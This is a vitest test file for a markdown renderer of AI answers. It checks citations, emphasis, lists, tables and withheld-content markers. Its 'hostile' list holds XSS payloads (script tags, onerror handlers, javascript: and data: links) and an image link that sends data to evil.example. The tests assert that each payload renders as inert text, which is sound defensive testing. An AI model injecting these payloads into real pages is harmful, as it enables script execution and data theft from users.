import { describe, expect, test } from "vitest";
import { growingBlocks } from "./growing-blocks.ts";
import type { Block, Inline } from "./markdown-blocks.ts";
import { readMarkdown } from "./read-markdown.ts";

function only(markdown: string): Block {
  const blocks = readMarkdown(markdown);
  expect(blocks).toHaveLength(1);
  return blocks[0] as Block;
}

function lineOf(markdown: string): readonly Inline[] {
  const block = only(markdown);
  if (block.kind !== "paragraph") throw new Error(`A ${block.kind} is no line`);
  return block.children;
}

function wordsOf(inlines: readonly Inline[]): string {
  return inlines
    .map((one) => ("children" in one ? wordsOf(one.children) : "text" in one ? one.text : ""))
    .join("");
}

describe("what an answer is made of", () => {
  test("a citation keeps its id and what the answer calls it", () => {
    expect(lineOf("At [58 bpm](cite:c12) now")).toEqual([
      { kind: "text", text: "At " },
      { kind: "citation", id: "c12", text: "58 bpm" },
      { kind: "text", text: " now" },
    ]);
  });

  test("emphasis, code and line breaks are told apart", () => {
    expect(lineOf("**a** *b* ~~c~~ `d`\ne").map(({ kind }) => kind)).toEqual([
      "strong",
      "text",
      "emphasis",
      "text",
      "struck",
      "text",
      "code",
      "break",
      "text",
    ]);
  });

  test("lists keep their order, their first number and what is nested in them", () => {
    const list = only("3. one\n4. two\n   - inner");
    if (list.kind !== "list") throw new Error("no list");
    expect([list.ordered, list.start, list.items.length]).toEqual([true, 3, 2]);
    expect(list.items[1]?.map(({ kind }) => kind)).toEqual(["paragraph", "list"]);
  });

  test("tables may hold citations", () => {
    const table = only("|night|rate|\n|-|-|\n|last|[58](cite:c1)|");
    if (table.kind !== "table") throw new Error("no table");
    expect(table.rows[0]?.[1]).toEqual([{ kind: "citation", id: "c1", text: "58" }]);
  });

  test("what was left out of an answer is marked where it stood", () => {
    expect(lineOf("Before. [withheld:dose] After. [withheld:diagnosis]").map(({ kind }) => kind)).toEqual([
      "text",
      "withheld",
      "text",
      "withheld",
    ]);
  });
});

/** Things that would run, fetch or lead elsewhere if they were taken for more than text. */
const hostile = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="https://evil.example">your results</a>',
  "Look <svg onload=alert(1)> here",
  "<style>body{display:none}</style>",
  "![steps](https://evil.example/collect?mood=2)",
  "![x][ref]\n\n[ref]: https://evil.example/p.png",
  "[open](javascript:alert(1))",
  "[open](JaVaScRiPt:alert(1))",
  "[open](data:text/html,<script>alert(1)</script>)",
  "[open](vbscript:x)",
  "[open](//evil.example)",
  "[open](/help)",
  "[open](cite:c1javascript:alert(1))",
  "[open](CITE:c1)",
  "[open](cite:)",
  "[open][ref]\n\n[ref]: https://evil.example",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<https://evil.example>",
  "https://evil.example",
  "www.evil.example",
  "me@evil.example",
  "[open](&#106;avascript:alert(1))",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "[![x](https://evil.example/a.png)](https://evil.example)",
  "[withheld:dose]\n\n[withheld:dose]: https://evil.example",
];

const inlineKinds = new Set(["text", "code", "strong", "emphasis", "struck", "break", "withheld"]);

describe("what is no plain writing", () => {
  test.each(hostile)("%s is text and nothing else", (markdown) => {
    const blocks = readMarkdown(markdown);
    expect(blocks.length).toBeGreaterThan(0);
    for (const block of blocks) {
      if (block.kind !== "paragraph") throw new Error(block.kind);
      for (const one of block.children) expect(inlineKinds).toContain(one.kind);
    }
  });

  test("shows what was written, so that nothing is hidden in it", () => {
    expect(wordsOf(lineOf("see [this](https://evil.example) and <b>that</b>"))).toBe(
      "see [this](https://evil.example) and <b>that</b>",
    );
  });

  test.each(["> ".repeat(20_000), "- ".repeat(20_000), "*".repeat(20_000), "[".repeat(20_000)])(
    "nesting without end is no way to break the page (%#)",
    (opening) => {
      expect(deepest(readMarkdown(`${opening}x`))).toBeLessThan(10);
    },
  );
});

function deepest(blocks: readonly Block[]): number {
  return Math.max(
    0,
    ...blocks.map((block) => {
      if (block.kind === "quote") return 1 + deepest(block.blocks);
      return block.kind === "list" ? 1 + deepest(block.items.flat()) : 1;
    }),
  );
}

describe("an answer that grows", () => {
  test("leaves the blocks that stand as they are", () => {
    const first = growingBlocks([], "One.\n\nTwo");
    const second = growingBlocks(first, "One.\n\nTwo and more\n\nThree");
    expect(second.map((block, index) => block === first[index])).toEqual([true, false, false]);
    expect(second).toEqual(readMarkdown("One.\n\nTwo and more\n\nThree"));
  });
});
